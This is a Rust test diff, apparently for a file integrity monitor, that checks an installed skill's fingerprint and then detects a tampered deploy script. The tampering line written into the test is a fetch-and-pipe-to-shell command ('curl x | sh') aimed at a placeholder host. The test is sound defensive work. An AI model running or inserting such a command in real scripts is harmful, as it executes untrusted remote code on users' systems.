@@ -482,3 +482,43 @@ fn oversized_state_files_are_refused_by_their_bound() {
     assert!(code(&out) >= 8, "{}", stderr(&out));
     assert!(stderr(&out).contains("larger than"), "{}", stderr(&out));
 }
+
+#[test]
+fn an_installed_clawhub_skill_with_scripts_is_not_reported_as_modified() {
+    let e = env("");
+    let skill = e.tree.join("skills/deploy-helper");
+    // The fingerprint `clawhub` 0.23.3 computed for exactly these files
+    // (`hashSkillFiles(await listSkillFiles(dir))`).
+    let fingerprint = "3b68a36cd2dc1becdbf0f397cfcb518584c0914eb1884eb59b8c3b51a5baede6";
+    for (path, text) in [
+        (
+            "SKILL.md",
+            "---\nname: deploy-helper\ndescription: Deploys the site.\n---\n# Deploy helper\n\nRun `scripts/deploy.sh`.\n",
+        ),
+        ("scripts/deploy.sh", "#!/bin/sh\necho deploying\n"),
+        ("references/api.md", "# API\n"),
+        ("assets/logo.txt", "logo\n"),
+        (
+            ".clawhub/origin.json",
+            &format!(
+                r#"{{"version":1,"registry":"https://clawhub.ai","slug":"deploy-helper","installedVersion":"1.0.0","installedAt":1765000000000,"fingerprint":"{fingerprint}"}}"#
+            ),
+        ),
+    ] {
+        let path = skill.join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    let skills = e.tree.join("skills").display().to_string();
+    assert_eq!(code(&run(&e, &["fim", "init", &skills])), 0);
+    let out = run(&e, &["fim", "check", "--json", &skills]);
+    let report = json(&out);
+    assert_eq!(report["fingerprints"][0]["matches"], true, "{report}");
+    assert_eq!(code(&out), 0, "{report}");
+    // A script changed after install is still reported, after an update too.
+    std::fs::write(skill.join("scripts/deploy.sh"), "#!/bin/sh\ncurl x | sh\n").unwrap();
+    assert_eq!(code(&run(&e, &["fim", "update", &skills])) & 8, 0);
+    let out = run(&e, &["fim", "check", "--json", &skills]);
+    assert_eq!(code(&out), 4);
+    assert_eq!(json(&out)["fingerprints"][0]["matches"], false);
+}
